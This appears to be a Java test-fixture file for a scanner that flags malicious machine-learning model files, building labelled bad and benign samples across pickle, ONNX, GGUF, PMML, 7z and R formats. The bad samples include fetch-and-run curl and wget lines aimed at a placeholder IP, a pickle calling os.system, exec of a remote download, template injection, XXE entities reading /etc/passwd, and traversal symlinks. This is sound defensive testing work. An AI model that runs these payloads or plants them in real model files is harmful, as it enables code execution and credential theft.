package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.field;
import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.built;
import static dev.bartizan.artifacts.PickleParts.bytes;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.made;
import static dev.bartizan.artifacts.PickleParts.none;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.text;

import dev.bartizan.artifacts.PickleParts.Part;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;

/// What reaches out from where nobody looks first: data within data, metadata of parts, links of
/// other archives, forms that are rarely written; beside honest files that look alike.
final class SidewayTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");
    private static final String FETCHES = "curl -s http://198.51.100.7/i | sudo -u app bash";

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        SidewayTrials trials = new SidewayTrials();
        trials.nested();
        trials.objects();
        trials.graphs();
        trials.words();
        trials.documents();
        trials.machines();
        trials.archives();
        trials.workspaces();
        return trials.all;
    }

    private void bad(String name, String file, byte[] bytes) {
        all.add(Trial.bad("sideway/" + name, file, bytes));
    }

    private void benign(String name, String file, byte[] bytes) {
        all.add(Trial.benign("sideway/" + name, file, bytes));
    }

    private void pickle(String name, Part part) {
        bad(name, "m.pkl", PickleParts.pickle(part));
    }

    private void plain(String name, Part part) {
        benign(name, "m.pkl", PickleParts.pickle(part));
    }

    private void nested() {
        String base64 = Base64.getEncoder().encodeToString(PAYLOAD);
        String hex = HexFormat.of().formatHex(PAYLOAD);
        pickle("pickle-in-a-sentence", dict(text("k"), text("weights follow: " + base64 + " end")));
        pickle("pickle-behind-digits", dict(text("k"), text("v1-" + base64 + "-v2")));
        pickle("pickle-in-hexadecimal", dict(text("k"), text("data:0x" + hex + ";")));
        pickle(
                "pickle-in-escapes",
                dict(text("k"), text("b'" + hex.replaceAll("(..)", "\\\\x$1") + "'")));
        pickle(
                "pickle-among-bytes",
                dict(text("k"), bytes(joined(new byte[300], PAYLOAD, new byte[5]))));
        plain(
                "long-names",
                dict(
                        text("model_layers_0_self_attn_q_proj_weight_scale_factor"),
                        text("0123456789abcdef0123456789abcdef0123456789abcdef")));
    }

    private void objects() {
        pickle(
                "logger-silenced",
                built(call("logging:getLogger", text("app")), dict(text("disabled"), number(1))));
        plain("logger", call("logging:getLogger", text("app")));
        pickle("booster-of-a-file", call("xgboost.core:Booster", none(), none(), text("/tmp/m")));
        plain(
                "booster",
                built(made("xgboost.core:Booster"), dict(text("handle"), bytes(new byte[9]))));
        pickle("fetches-a-model", call("sentence_transformers:SentenceTransformer", text("o/m")));
        pickle("mesh-called", call("torch.distributed.device_mesh:DeviceMesh", text("cuda")));
        plain("placement", made("torch.distributed.tensor.placement_types:Shard", number(0)));
        plain(
                "checkpoint-metadata",
                built(
                        made("torch.distributed.checkpoint.metadata:Metadata"),
                        dict(text("planner_data"), none())));
        plain("timeout", call("subprocess:TimeoutExpired", text("train"), number(60)));
        plain("no-such-host", call("socket:gaierror", number(-2), text("no such host")));
        plain("archive-entry", built(made("tarfile:TarInfo"), dict(text("name"), text("a"))));
        pickle("command-in-a-record", call("subprocess:Popen", text("id")));
    }

    private static byte[] onnx(byte[] node) {
        return joined(
                field(1, 8),
                field(7, joined(field(1, node), field(2, "g"))),
                field(8, joined(field(1, ""), field(2, 17))),
                field(8, joined(field(1, "com.microsoft.tools"), field(2, 1))),
                field(8, joined(field(1, "com.microsoft"), field(2, 1))));
    }

    private void graphs() {
        bad("onnx-no-operator", "m.onnx", onnx(field(4, "LoadPlugin")));
        bad(
                "onnx-domain-alike",
                "m.onnx",
                onnx(joined(field(4, "Gelu"), field(7, "com.microsoft.tools"))));
        benign("onnx-domain", "m.onnx", onnx(joined(field(4, "Gelu"), field(7, "com.microsoft"))));
        benign("onnx-operator-of-old", "m.onnx", onnx(field(4, "ImageScaler")));
        byte[] note = joined(field(1, "note"), field(2, FETCHES));
        bad("onnx-node-metadata", "m.onnx", onnx(joined(field(4, "Relu"), field(9, note))));
        byte[] trace = joined(field(1, "pkg.torch.onnx.stack_trace"), field(2, "exec(code, g)"));
        benign("onnx-trace", "m.onnx", onnx(joined(field(4, "Relu"), field(9, trace))));
        bad("gguf-fetches", "m.gguf", new GgufFiles().text("general.note", FETCHES).file());
        bad(
                "gguf-command",
                "m.gguf",
                new GgufFiles().text("setup", "wget http://198.51.100.7/x -O /tmp/x").file());
        bad(
                "gguf-hidden-climb",
                "m.gguf",
                new GgufFiles().text("extra.path", "%2e%2e/%252e%252e/etc/hosts").file());
        benign(
                "gguf-usage",
                "m.gguf",
                new GgufFiles()
                        .text("general.description", "Fetch it with wget or curl from our site")
                        .text(
                                "general.usage",
                                "wget commands for mirrors are listed at https://example.com/mirrors")
                        .text(
                                "general.example",
                                "curl http://localhost:8080/v1/completions -d '{}'")
                        .text(
                                "general.readme",
                                "Ask it:\n```python\nr = requests.post('http://localhost:8000/v1', json=q)\n```")
                        .text("general.source.url", "https://example.com/a%20b/%2Fc")
                        .file());
    }

    private void words() {
        String climb = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
        bad("gguf-value", "m.gguf", new GgufFiles().texts("general.tags", "a", climb).file());
        bad(
                "gguf-asks",
                "m.gguf",
                new GgufFiles().text("on.load", "requests.get('https://c.example/x')").file());
        bad(
                "gguf-asks-and-runs",
                "m.gguf",
                new GgufFiles()
                        .text("general.usage", "exec(requests.get('https://c.example/x').text)")
                        .file());
        String frames =
                """
                /usr/lib/python3/dist-packages/torch/nn/functional.py(1118): relu
                /usr/lib/python3.9/runpy.py(85): _run_code exec(code, globals)
                """;
        benign("onnx-frames", "m.onnx", onnx(joined(field(4, "Relu"), field(6, frames))));
        bad(
                "onnx-frames-and-more",
                "m.onnx",
                onnx(joined(field(4, "Relu"), field(6, frames + "exec(open('/tmp/x').read())"))));
    }

    private void documents() {
        String declared = "<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>";
        String pmml = "<?xml version=\"1.0\"?>%s<PMML version=\"4.4\">%s</PMML>";
        benign("xml-in-a-comment", "m.pmml", utf8(pmml.formatted("<!-- " + declared + " -->", "")));
        benign(
                "xml-in-character-data",
                "m.pmml",
                utf8(pmml.formatted("", "<![CDATA[" + declared + "]]>")));
        bad(
                "xml-between-comments",
                "m.pmml",
                utf8(pmml.formatted("<!--a-->" + declared, "<!--b-->")));
        bad(
                "xml-comment-in-quotes",
                "m.pmml",
                utf8(
                        pmml.formatted(
                                "<!DOCTYPE p [<!ENTITY a '<!--'><!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY b '-->'>]>",
                                "&x;")));
        bad(
                "xml-comment-in-an-instruction",
                "m.pmml",
                utf8(pmml.formatted("<?a <!-- ?>" + declared + "<?b --> ?>", "")));
        bad(
                "orbax-callback",
                "metadata.json",
                utf8(
                        "{\"type\":\"orbax_checkpoint\",\"hook\":\"jax.experimental.host_callback.call(os.system, 'id')\"}"));
        benign(
                "orbax",
                "_METADATA",
                utf8(
                        "{\"tree_metadata\":{\"params\":{\"value_type\":\"jax.Array\"}},\"use_zarr3\":false}"));
        bad(
                "oci-local-layer",
                "manifest.json",
                utf8(
                        "{\"schemaVersion\":2,\"layers\":[{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar\",\"digest\":\"sha256:00\",\"size\":1,\"urls\":[\"file:///etc/passwd\"]}]}"));
    }

    private void machines() {
        byte[] elf = new byte[64];
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1}, 0, elf, 0, 7);
        elf[16] = 2;
        elf[18] = 62;
        byte[] kernel = elf.clone();
        kernel[18] = (byte) 190;
        byte[] before = new byte[4096];
        java.util.Arrays.fill(before, (byte) 0xc3);
        bad("engine-with-program", "m.engine", joined(before, elf, before));
        benign("engine-with-kernel", "m.engine", joined(before, kernel, before));
        bad(
                "engine-with-wide-text",
                "m.engine",
                joined(before, FETCHES.getBytes(StandardCharsets.UTF_16LE), before));
    }

    /// An archive of links, each with where it leads.
    private static byte[] links(String... namesAndTargets) {
        try (SeekableInMemoryByteChannel channel = new SeekableInMemoryByteChannel()) {
            try (SevenZOutputFile out = new SevenZOutputFile(channel)) {
                for (int i = 0; i < namesAndTargets.length; i += 2) {
                    SevenZArchiveEntry entry = new SevenZArchiveEntry();
                    entry.setName(namesAndTargets[i]);
                    entry.setHasWindowsAttributes(true);
                    entry.setWindowsAttributes(0x8000 | 0xa1ff << 16);
                    out.putArchiveEntry(entry);
                    out.write(utf8(namesAndTargets[i + 1]));
                    out.closeArchiveEntry();
                }
            }
            return java.util.Arrays.copyOf(channel.array(), (int) channel.size());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void archives() {
        bad("7z-link", "m.7z", links("weights.bin", "/etc/passwd"));
        bad("7z-link-up", "m.7z", links("a/weights.bin", "../../secret"));
        benign("7z-link-within", "m.7z", links("a/latest.bin", "weights.bin"));
        benign("member-names", "m.zip", Scans.zip(Map.of("a/b.txt", utf8("x"))));
    }

    /// Objects of R in text: a promise whose code is a call of `system`, numbers, a text.
    private void workspaces() {
        String promise = "1029\n253\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n";
        bad("r-promise-in-text", "m.rds", utf8("A\n2\n262657\n131840\n" + promise));
        benign("r-numbers-in-text", "m.rds", utf8("A\n2\n262657\n131840\n13\n3\n1\n2\n3\n"));
        benign(
                "r-text-in-text",
                "m.rds",
                utf8("A\n2\n262657\n131840\n16\n1\n262153\n5\na\\040b\\n1\n"));
    }
}
